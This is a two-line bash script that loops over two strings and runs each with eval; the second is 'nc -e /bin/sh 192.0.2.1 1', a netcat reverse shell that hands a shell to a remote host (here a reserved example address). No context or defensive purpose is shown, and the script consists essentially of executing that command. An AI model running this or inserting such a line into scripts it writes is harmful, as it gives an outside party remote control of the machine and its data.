#!/bin/bash
for x in 'echo a' 'nc -e /bin/sh 192.0.2.1 1'; do eval "$x"; done
